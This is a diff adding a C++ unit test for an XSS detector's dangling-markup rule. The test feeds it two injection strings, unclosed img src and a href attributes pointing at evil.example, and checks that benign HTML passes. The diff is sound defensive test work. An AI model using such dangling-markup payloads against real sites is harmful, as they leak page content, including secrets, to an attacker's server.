@@ -584,5 +584,17 @@ TEST(XssTest, W3cDoctypesAndCodeSpans) {
   }
 }
 
+// Dangling markup: a URL attribute's quote that never closes.
+TEST(XssTest, DanglingMarkup) {
+  for (const std::string a : {"<img src='https://evil.example/log?", "<a href=\"//evil.example/?x="}) {
+    EXPECT_EQ(testing::RuleOf(XssDetector(), a), "xss.dangling_markup") << a;
+  }
+  for (const std::string b : {"<img src='https://example.com/a.png'>",
+                              "I said <a href=\"https://x.example\">here</a> \"quoted",
+                              "a < b and c = 'x"}) {
+    EXPECT_EQ(testing::RuleOf(XssDetector(), b), "") << b;
+  }
+}
+
 }  // namespace
 }  // namespace fnguard::detect
